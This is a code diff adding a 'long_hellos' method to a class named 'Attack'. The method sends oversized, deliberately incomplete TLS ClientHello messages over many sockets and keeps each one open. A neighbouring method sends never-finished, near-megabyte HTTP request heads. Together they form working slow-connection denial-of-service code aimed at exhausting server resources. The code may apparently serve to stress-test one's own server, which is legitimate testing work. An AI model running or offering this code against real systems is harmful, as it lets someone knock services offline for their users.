@@ -182,6 +182,20 @@ class Attack:
                 pass
         return {"held": len(self.held)}
 
+    def long_hellos(self):
+        """First messages of TLS that are nearly as long as one may be, and never whole."""
+        hello = b"\x01" + (131_000).to_bytes(3, "big") + b"\x03\x03" + b"x" * 120_000
+        pieces = (hello[at:at + 16_000] for at in range(0, len(hello), 16_000))
+        begun = b"".join(b"\x16\x03\x01" + len(piece).to_bytes(2, "big") + piece for piece in pieces)
+        for _ in range(self.count):
+            try:
+                sock = self.plain()
+                sock.sendall(begun)
+                self.held.append(sock)
+            except OSError:
+                pass
+        return {"held": len(self.held)}
+
     def heads(self):
         """Requests whose head is nearly a megabyte and never whole."""
         begin = b"GET /livez HTTP/1.1\r\nHost: x\r\nX: " + b"x" * self.options.get("bytes", 900_000)
